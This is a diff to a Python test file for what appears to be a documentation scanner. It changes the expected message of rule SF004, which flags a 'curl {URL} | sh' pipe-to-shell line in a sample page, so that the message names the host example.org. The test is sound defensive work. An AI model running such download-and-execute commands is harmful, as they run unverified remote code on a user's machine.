@@ -198,7 +198,7 @@ def test_says_nothing_of_data_that_is_decoded(check, page, command) -> None:
 def test_points_from_the_download_to_the_shell(check, page) -> None:
     (found,) = [each for each in check(page(body=f"# A\n\nRun `curl {URL} | sh` now.\n")) if each.rule == "SF004"]
     assert found.span == Span(7, 6, 7, 6 + len(f"curl {URL} | sh"))
-    assert found.message == f"downloads code and runs it unchecked: `curl {URL} | sh`"
+    assert found.message == f"downloads code from `example.org` and runs it unchecked: `curl {URL} | sh`"
 
 
 def test_points_from_the_decoding_to_the_shell(check, page) -> None:
